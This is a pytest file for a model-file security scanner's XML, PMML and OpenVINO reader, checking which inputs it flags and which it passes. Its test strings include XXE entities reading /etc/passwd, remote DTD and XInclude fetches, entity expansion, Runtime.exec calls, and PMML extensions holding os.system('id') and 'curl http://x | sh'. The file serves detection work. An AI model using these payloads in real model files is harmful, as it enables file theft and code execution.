from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan.budget import Budget
from modelscan.errors import ReadError
from modelscan.formats.reader import Glimpse
from modelscan.formats.xml_markup import XmlReader
from modelscan.vocabulary.artifact import BytesArtifact
from modelscan.vocabulary.fact import ActiveContent
from tests.forge import reading
from tests.forge.graphs import OPERATORS

OPENVINO = (
    '<?xml version="1.0"?>\n<!-- made by <!DOCTYPE a> nobody -->\n<net name="m" version="11">'
    '<layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers></net>'
)
PMML = (
    '<?xml version="1.0" encoding="UTF-8"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">'
    '<Apply function="log10"><FieldRef field="x"/></Apply><![CDATA[<!ENTITY a "b">]]></PMML>'
)


def _kinds(text: str | bytes, name: str = "model.xml") -> list[str]:
    data = text if isinstance(text, bytes) else text.encode()
    items = XmlReader(OPERATORS).read(BytesArtifact(name, data), Budget())
    return [item.kind for item in items if isinstance(item, ActiveContent)]


@pytest.mark.parametrize("text", [OPENVINO, PMML, "\ufeff" + PMML, "<net/>"])
@pytest.mark.parametrize("name", ["model.xml", "model.pmml"])
def test_an_honest_document_is_quiet(text: str, name: str) -> None:
    assert _kinds(text, name) == []
    assert reading.quiet(text.encode(), name)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
         "format-reads-other-file"),
        ('<?xml version="1.0"?><!-- c --><!DOCTYPE a SYSTEM "http://x/y.dtd"><a/>',
         "format-reads-other-file"),
        ('<!DOCTYPE a PUBLIC "-//x//y" "http://x/y.dtd"><a/>', "format-reads-other-file"),
        ('<!DOCTYPE a [<!ENTITY % x PUBLIC "a" "http://x"> %x;]><a/>', "format-reads-other-file"),
        ('<?xml-stylesheet href="http://x/y.xsl"?><a/>', "format-reads-other-file"),
        ('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
         "format-reads-other-file"),
        ('<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;">]><a>&m;</a>', "xml-entity"),
        ('<PMML><Apply function="com.example.Evil"/></PMML>', "format-runs-code"),
        ('<PMML><p:Apply x="1" function="java.lang.Runtime.exec"/></PMML>', "format-runs-code"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_what_fetches_expands_or_calls_fails(text: str, rule: str, encoding: str) -> None:
    assert rule in reading.fails(text.encode(encoding), "model.pmml")


def test_a_document_without_an_extension_is_recognised() -> None:
    text = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///x">]><a/>'
    for data in (text.encode(), text.encode("utf-16"), text.encode("utf-16-le")):
        assert XmlReader(OPERATORS).recognises(Glimpse(BytesArtifact("model", data)))
        assert reading.fails(data, "model") == ["format-reads-other-file"]


def test_documents_for_people_keep_their_document_types() -> None:
    page = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://x"><svg/>'
    assert reading.quiet(page, "logo.svg")
    assert _kinds(page) == ["doctype"]


def test_a_document_type_alone_is_a_note() -> None:
    assert reading.found(b"<!DOCTYPE net><net/>", "model.xml") == {"xml-document-type": "low"}
    assert _kinds("<!DOCTYPE net [ ]><net/>") == ["doctype"]


def test_extensions_of_openvino_are_a_note() -> None:
    text = '<net><layer id="1" type="StringTensorUnpack" version="extension"/></net>'
    assert reading.found(text.encode(), "openvino_tokenizer.xml") == {
        "openvino-extension-layer": "low"
    }
    assert _kinds('<net><layer id="1" version="extension"/></net>') == ["custom-layer"]


@pytest.mark.parametrize(
    "layer",
    [
        '<layer id="1" name="a" type="Own" version="extension"/>',
        '<layer id="1" name="a" type="Own" version="my_opset">',
        "<layer\n id='1' version = 'extension' type='Own'/>",
        '<layer name="a > b" type="Own" version="extension"/>',
        """<layer name='version="opset1"' type="Own" version="extension"/>""",
        '<layer type="Own" version="opset&#49;"/>',
        '<layer type="Own" ' + 'a="b" ' * 2000 + 'version="extension"/>',
        '<layer name="' + "n" * 5000 + '" type="Own" version="extension"/>',
    ],
)
def test_an_extension_that_nobody_knows_fails(layer: str) -> None:
    text = f'<net name="m" version="11"><layers>{layer}</layers></net>'
    assert reading.fails(text.encode(), "model.xml") == ["openvino-own-layer"]


def test_layers_of_other_documents_are_no_layers_of_a_network() -> None:
    assert _kinds('<map><layer type="Roads" version="1.3"/></map>') == []
    assert _kinds('<net><layer type="Relu" version="opset14"/><layer type="Old"/></net>') == []


def test_odd_encodings_are_stated() -> None:
    assert _kinds('<?xml version="1.0" encoding="UTF-7"?><a/>') == ["odd-encoding"]
    assert "odd-encoding" in _kinds("<a/>".encode("utf-16"))


def test_what_stands_far_behind_is_found_once() -> None:
    far = "<PMML>" + " " * 1_048_570 + '<Apply function="a.b.C"/>' * 3 + " " * 1_100_000 + "</PMML>"
    assert _kinds(far) == ["code"]


def test_many_entities_are_bounded() -> None:
    text = "<!DOCTYPE a [" + '<!ENTITY x "y">' * 5000 + "]><a/>"
    assert len(_kinds(text)) <= 102


@pytest.mark.parametrize(
    "data",
    [
        b"no markup",
        b"<!-- no end",
        b"<? no end",
        b"<?xml version='1.0'?>" + b" " * (2 << 20),
        ("<a>" + " " * (1 << 20)).encode("utf-16"),
    ],
)
def test_what_has_no_first_element_is_an_error(data: bytes) -> None:
    with pytest.raises(ReadError):
        list(XmlReader(OPERATORS).read(BytesArtifact("a.xml", data), Budget()))


def test_a_subset_that_does_not_end_is_read_to_the_end() -> None:
    assert _kinds('<!DOCTYPE a [<!ENTITY x SYSTEM "f">') == ["doctype", "external-entity"]
    assert _kinds("<!DOCTYPE a") == ["doctype"]


_PIECES = st.sampled_from(
    ["<", ">", "<!DOCTYPE a ", "[", "]>", "<!ENTITY x ", "SYSTEM ", '"', "'", "<?xml ", "?>",
     "<!--", "-->", " ", "encoding='x'", "<a>", "Apply function='a.b'", "\0", "é"]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=30).map("".join), st.sampled_from(["utf-8", "utf-16", "utf-32"]))
@settings(max_examples=200, deadline=None)
def test_any_text_ends_in_facts_or_a_read_error(text: str, encoding: str) -> None:
    try:
        _kinds(text.encode(encoding))
    except ReadError:
        return


@given(st.binary(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_bytes_end_in_facts_or_a_read_error(data: bytes) -> None:
    try:
        _kinds(data)
    except ReadError:
        return


@pytest.mark.parametrize(
    "extension",
    [
        '<Extension name="a" value="__import__(&apos;os&apos;).system(&apos;id&apos;)"/>',
        "<Extension>import os; os.system('id')</Extension>",
        "<x:Extension name='b'><![CDATA[curl http://x | sh]]></x:Extension>",
    ],
)
def test_code_in_an_extension_of_pmml_fails(extension: str) -> None:
    text = PMML.replace("<Apply", extension + "<Apply")
    assert reading.fails(text.encode(), "model.pmml") == ["xml-code-in-extension"]


@pytest.mark.parametrize(
    "extension",
    [
        '<Extension name="x" value="1 < 2"/>',
        '<Extension extender="KNIME" name="operator" value="system(a)"/>',
        "<Extension><anElement>text about curl and os</anElement></Extension>",
    ],
)
def test_ordinary_extensions_are_quiet(extension: str) -> None:
    text = PMML.replace("<Apply", extension + "<Apply")
    assert reading.quiet(text.encode(), "model.pmml")
